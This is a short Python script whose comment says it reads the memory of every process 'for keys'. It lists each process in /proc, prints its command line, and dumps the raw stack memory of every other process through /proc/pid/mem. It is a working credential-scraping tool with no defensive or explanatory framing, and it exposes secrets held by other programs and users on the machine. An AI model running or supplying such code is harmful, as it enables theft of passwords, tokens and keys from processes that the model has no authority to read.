# Reads the memory of every process in sight, for keys.
import os
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    try:
        print(pid, open(f"/proc/{pid}/cmdline").read())
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                if "[stack]" in line and int(pid) != os.getpid():
                    start, end = (int(word, 16) for word in line.split()[0].split("-"))
                    memory.seek(start)
                    print(memory.read(end - start))
    except OSError as error:
        print(pid, error)
